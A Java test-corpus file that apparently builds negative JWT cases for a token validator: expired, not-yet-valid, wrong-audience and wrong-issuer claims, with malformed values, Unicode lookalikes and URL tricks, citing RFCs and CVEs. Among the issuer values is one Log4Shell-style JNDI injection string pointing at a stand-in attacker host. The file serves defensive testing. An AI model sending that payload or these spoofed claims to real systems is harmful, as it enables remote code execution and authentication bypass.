package io.bailiwick.testkit.corpus;

import static io.bailiwick.testkit.corpus.Cases.MALFORMED;

import io.bailiwick.testkit.AttackCase.Level;
import java.util.LinkedHashMap;
import java.util.Map;

/** Well signed by the trusted issuer, and for somebody else, or for another time. */
final class ClaimAttacks {
  private static final String EXPIRED = "EXPIRED";
  private static final String NOT_YET = "NOT_YET_VALID";
  private static final String MISSING = "MISSING_CLAIM";
  private static final String AUDIENCE = "WRONG_AUDIENCE";
  private static final String ISSUER = "WRONG_ISSUER";

  private ClaimAttacks() {}

  static void add(Cases cases) {
    expiry(cases.family("expiry", Level.JWT, "RFC 7519, 4.1.4"));
    times(cases.family("not-yet-valid", Level.JWT, "RFC 7519, 4.1.5"));
    audience(cases.family("audience", Level.JWT, "RFC 7519, 4.1.3; RFC 8725, 3.9"));
    issuer(cases.family("issuer", Level.JWT, "RFC 7519, 4.1.1; RFC 8725, 3.8"));
  }

  private static void claim(
      Cases.Family family, String reason, String name, String claim, String raw) {
    family.refuse(reason, name, claim + " is " + shown(raw), Draft.good().claim(claim, raw).sign());
  }

  private static String shown(String raw) {
    return raw.length() > 60 ? raw.substring(0, 60) + "..." : raw;
  }

  private static void expiry(Cases.Family expiry) {
    claim(expiry, EXPIRED, "a-second-ago", "exp", Long.toString(Draft.NOW - 1));
    claim(expiry, EXPIRED, "now", "exp", Long.toString(Draft.NOW));
    claim(expiry, EXPIRED, "an-hour-ago", "exp", Long.toString(Draft.NOW - 3600));
    claim(expiry, EXPIRED, "zero", "exp", "0");
    Cases.Family strict = expiry.level(Level.STRICT);
    strict.refuse(MISSING, "absent", "there is no exp", Draft.good().without("exp").sign());
    claim(strict, MALFORMED, "null", "exp", "null");
    claim(strict, MALFORMED, "text", "exp", "\"" + (Draft.NOW + 240) + "\"");
    claim(strict, MALFORMED, "word", "exp", "\"never\"");
    claim(strict, MALFORMED, "true", "exp", "true");
    claim(strict, MALFORMED, "array", "exp", "[" + (Draft.NOW + 240) + "]");
    claim(strict, MALFORMED, "object", "exp", "{}");
    claim(strict, MALFORMED, "negative", "exp", "-1");
    claim(strict, MALFORMED, "huge-exponent", "exp", "1e308");
    claim(strict, MALFORMED, "beyond-long", "exp", "9223372036854775808");
    claim(strict, MALFORMED, "wraps-64-bits", "exp", "18446744075505073856");
    claim(strict, MALFORMED, "most-long", "exp", "9223372036854775807");
    claim(strict, MALFORMED, "milliseconds", "exp", Long.toString((Draft.NOW + 240) * 1000));
    claim(strict, MALFORMED, "year-10000", "exp", "253402300800");
    Cases.Family agent = expiry.level(Level.AGENT).origin("RFC 9068, 2.2");
    claim(agent, MALFORMED, "fraction", "exp", (Draft.NOW + 240) + ".5");
    claim(agent, MALFORMED, "exponent", "exp", "1795522e3");
    agent.refuse(
        EXPIRED,
        "upper-case-name",
        "expired, beside an EXP that is not",
        Draft.good().claim("exp", Long.toString(Draft.NOW - 60)).claim("EXP", "4102444800").sign());
  }

  private static void times(Cases.Family times) {
    claim(times, NOT_YET, "nbf-in-an-hour", "nbf", Long.toString(Draft.NOW + 3600));
    claim(times, NOT_YET, "nbf-in-eleven-minutes", "nbf", Long.toString(Draft.NOW + 660));
    Cases.Family strict = times.level(Level.STRICT);
    claim(strict, NOT_YET, "nbf-in-11-seconds", "nbf", Long.toString(Draft.NOW + 11));
    claim(strict, MALFORMED, "nbf-text", "nbf", "\"" + (Draft.NOW + 3600) + "\"");
    claim(strict, MALFORMED, "nbf-null", "nbf", "null");
    claim(strict, MALFORMED, "nbf-array", "nbf", "[]");
    claim(strict, MALFORMED, "nbf-huge", "nbf", "1e308");
    claim(strict, MALFORMED, "nbf-beyond-long", "nbf", "9223372036854775808");
    claim(strict, MALFORMED, "iat-text", "iat", "\"yesterday\"");
    claim(strict, MALFORMED, "iat-null", "iat", "null");
    claim(strict, MALFORMED, "iat-beyond-long", "iat", "-9223372036854775809");
    Cases.Family agent = times.level(Level.AGENT).origin("RFC 9068, 2.2");
    claim(agent, NOT_YET, "iat-in-an-hour", "iat", Long.toString(Draft.NOW + 3600));
    claim(agent, NOT_YET, "iat-in-11-seconds", "iat", Long.toString(Draft.NOW + 11));
    agent.refuse(MISSING, "iat-absent", "there is no iat", Draft.good().without("iat").sign());
  }

  private static void audience(Cases.Family audience) {
    audience.refuse(AUDIENCE, "absent", "there is no aud", Draft.good().without("aud").sign());
    Map<String, String> wrong = new LinkedHashMap<>();
    wrong.put("other", "\"another-service\"");
    wrong.put("others", "[\"another-service\",\"account\"]");
    wrong.put("empty", "\"\"");
    wrong.put("empty-array", "[]");
    wrong.put("array-of-empty", "[\"\"]");
    wrong.put("longer", "\"research-os-2\"");
    wrong.put("shorter", "\"research-o\"");
    wrong.put("case", "\"Research-OS\"");
    wrong.put("leading-space", "\" research-os\"");
    wrong.put("trailing-space", "\"research-os \"");
    wrong.put("line-end", "\"research-os\\n\"");
    wrong.put("null-byte", "\"research-os\\u0000\"");
    wrong.put("comma", "\"research-os,another\"");
    wrong.put("two-by-space", "\"research-os another\"");
    wrong.put("json-in-text", "\"[\\\"research-os\\\"]\"");
    wrong.put("star", "\"*\"");
    wrong.put("regex", "\"research-.*\"");
    wrong.put("cyrillic", "\"r\\u0435search-os\"");
    wrong.put("not-normalized", "\"research\\u2010os\"");
    wrong.put("issuer", Json.quote(Draft.ISSUER));
    wrong.put("issuer-account", "\"account\"");
    wrong.forEach((name, raw) -> claim(audience, AUDIENCE, name, "aud", raw));
    claim(
        audience.level(Level.AGENT).origin("RFC 8707"),
        AUDIENCE,
        "resource-uri-alone",
        "aud",
        Json.quote(Draft.RESOURCE));
    Map<String, String> shape = new LinkedHashMap<>();
    shape.put("null", "null");
    shape.put("number", "0");
    shape.put("true", "true");
    shape.put("object", "{\"research-os\":true}");
    shape.put("nested-array", "[[\"research-os\"]]");
    shape.put("array-with-null", "[\"research-os\",null]");
    shape.put("array-with-number", "[\"research-os\",1]");
    shape.put("array-with-object", "[{\"aud\":\"research-os\"}]");
    shape.forEach(
        (name, raw) ->
            claim(
                audience.level(name.startsWith("array-with-n") ? Level.STRICT : Level.JWT),
                MALFORMED,
                name,
                "aud",
                raw));
    audience.refuse(
        AUDIENCE,
        "azp-instead",
        "another audience, and ours as the authorized party",
        Draft.good().claim("aud", "\"another\"").claim("azp", "\"research-os\"").sign());
    audience.refuse(
        AUDIENCE,
        "upper-case-name",
        "ours under the name AUD",
        Draft.good().without("aud").claim("AUD", "\"research-os\"").sign());
  }

  private static void issuer(Cases.Family issuer) {
    issuer.refuse(ISSUER, "absent", "there is no iss", Draft.good().without("iss").sign());
    Map<String, String> wrong = new LinkedHashMap<>();
    wrong.put("other", "https://attacker.example/realms/corpus");
    wrong.put("other-realm", "https://issuer.example/realms/other");
    wrong.put("empty", "");
    wrong.put("trailing-slash", Draft.ISSUER + "/");
    wrong.put("longer", Draft.ISSUER + "2");
    wrong.put("shorter", Draft.ISSUER.substring(0, Draft.ISSUER.length() - 1));
    wrong.put("host-only", "https://issuer.example");
    wrong.put("upper-case-host", "https://ISSUER.example/realms/corpus");
    wrong.put("upper-case-path", "https://issuer.example/realms/Corpus");
    wrong.put("upper-case-scheme", "HTTPS://issuer.example/realms/corpus");
    wrong.put("http", "http://issuer.example/realms/corpus");
    wrong.put("no-scheme", "issuer.example/realms/corpus");
    wrong.put("port", "https://issuer.example:443/realms/corpus");
    wrong.put("userinfo", "https://issuer.example@attacker.example/realms/corpus");
    wrong.put("subdomain", "https://issuer.example.attacker.example/realms/corpus");
    wrong.put("trailing-dot", "https://issuer.example./realms/corpus");
    wrong.put("query", Draft.ISSUER + "?");
    wrong.put("fragment", Draft.ISSUER + "#");
    wrong.put("dot-segment", "https://issuer.example/realms/./corpus");
    wrong.put("dot-dot-segment", "https://issuer.example/realms/x/../corpus");
    wrong.put("double-slash", "https://issuer.example//realms/corpus");
    wrong.put("percent-encoded", "https://issuer.example/realms/%63orpus");
    wrong.put("leading-space", " " + Draft.ISSUER);
    wrong.put("trailing-space", Draft.ISSUER + " ");
    wrong.put("line-end", Draft.ISSUER + "\n");
    wrong.put("null-byte", Draft.ISSUER + "\0");
    wrong.put("cyrillic", "https://issu\u0435r.example/realms/corpus");
    wrong.put("full-width", "https://issuer\uff0eexample/realms/corpus");
    wrong.put("comma", Draft.ISSUER + ",https://attacker.example");
    wrong.put("star", "*");
    wrong.put("template", "${jndi:ldap://attacker.example/a}");
    wrong.forEach(
        (name, text) ->
            claim(
                name.equals("shorter") || name.equals("host-only") || name.equals("empty")
                    ? issuer.origin("RFC 7519, 4.1.1; CVE-2024-53861")
                    : issuer,
                ISSUER,
                name,
                "iss",
                Json.quote(text)));
    claim(issuer, MALFORMED, "null", "iss", "null");
    claim(issuer, MALFORMED, "number", "iss", "1");
    claim(issuer, MALFORMED, "object", "iss", "{}");
    Cases.Family array = issuer.origin("RFC 7519, 4.1.1; CVE-2025-30144");
    claim(array, MALFORMED, "array", "iss", Json.array("https://attacker.example", Draft.ISSUER));
    claim(array, MALFORMED, "array-of-one", "iss", Json.array(Draft.ISSUER));
  }
}
